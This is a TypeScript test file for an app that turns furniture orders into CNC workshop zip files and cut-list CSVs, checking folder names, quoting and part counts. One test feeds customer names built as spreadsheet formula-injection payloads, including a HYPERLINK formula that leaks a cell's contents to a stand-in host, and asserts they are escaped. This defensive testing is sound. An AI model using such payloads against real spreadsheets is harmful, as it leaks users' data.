import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { cncPackage } from '@kubik/design/cnc/cnc-files';
import { itemFolder, orderCncZip, orderCutListCsv } from './order-cnc.ts';
import { example, modelOf, oneCube } from './test-models.ts';

const cube = oneCube();
const grid = modelOf(example('grid-2x2.json'));
const items = [
  { seq: 1, name: 'Nočna omarica – čšž', quantity: 3, model: cube },
  { seq: 2, name: 'Knjižna "polica", dnevna', quantity: 1, model: grid },
];

describe('order workshop files', () => {
  it("keeps a customer's item name from running as a formula in the workshop's spreadsheet", () => {
    const evil = ['=HYPERLINK("http://evil.test/?"&A1,"Klik")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1'];
    const csv = orderCutListCsv(evil.map((name, i) => ({ seq: i + 1, name, quantity: 1, model: cube })));
    const names = csv
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .map((line) => line.slice(line.indexOf(',') + 1));
    for (const line of names) expect(line, line).toMatch(/^"?'/);
    // Numbers in the design's own columns stay numbers.
    expect(csv).toContain(',364,399,18,364,400,');
  });

  it('names item folders by position and an ASCII form of the name', () => {
    expect(itemFolder(items[0]!)).toBe('01-nocna-omarica-csz');
    expect(itemFolder({ seq: 12, name: '—' })).toBe('12');
  });

  it('puts each item in its own folder, and one cut list for the order with quantities × pieces ordered', () => {
    const files = unzipSync(orderCncZip({ number: 'K-2026-00042' }, items));
    const names = Object.keys(files);
    expect(names).toEqual(
      expect.arrayContaining([
        'README.txt',
        'cut-list.csv',
        '01-nocna-omarica-csz/panels/V001.dxf',
        '01-nocna-omarica-csz/cut-list.csv',
        '02-knjizna-polica-dnevna/README.txt',
      ]),
    );
    expect(strFromU8(files['README.txt']!)).toContain('01-nocna-omarica-csz/  Nočna omarica – čšž × 3');

    const csv = strFromU8(files['cut-list.csv']!).trimEnd().split('\r\n');
    expect(csv[0]).toBe(
      'item,item_name,part,variant,material,colour,cut_length,cut_width,thickness,finished_length,finished_width,grain,edge_L1,edge_L2,edge_W1,edge_W2,front_edge,holes,quantity,file,role',
    );
    // One cube has two sides, one per drilling (V001, V001-2): three of each for three pieces.
    expect(csv).toContain(
      '1,Nočna omarica – čšž,V001,1,chipboard-18,white,364,399,18,364,400,no,,abs-22x1 1mm,,,L2,12,3,01-nocna-omarica-csz/panels/V001.dxf,vertical',
    );
    expect(csv).toContain(
      '1,Nočna omarica – čšž,V001,2,chipboard-18,white,364,399,18,364,400,no,,abs-22x1 1mm,,,L2,12,3,01-nocna-omarica-csz/panels/V001-2.dxf,vertical',
    );
    // Every part of both designs, each once, with its count × the pieces ordered.
    const perItem = items.map((item) => cncPackage(item.model).workshop.parts);
    expect(csv.length - 1).toBe(perItem[0]!.length + perItem[1]!.length);
    const boards = csv.slice(1).reduce((n, line) => n + Number(line.split(',').at(-3)), 0);
    expect(boards).toBe(3 * cube.panels().length + grid.panels().length);
    // A name with a quote and a comma is quoted as RFC 4180 says.
    expect(csv.some((line) => line.startsWith('2,"Knjižna ""polica"", dnevna",'))).toBe(true);
  });

  it('makes the same cut list on its own', () => {
    const zipped = strFromU8(unzipSync(orderCncZip({ number: 'K-2026-00042' }, items))['cut-list.csv']!);
    expect(orderCutListCsv(items)).toBe(zipped);
  });
});
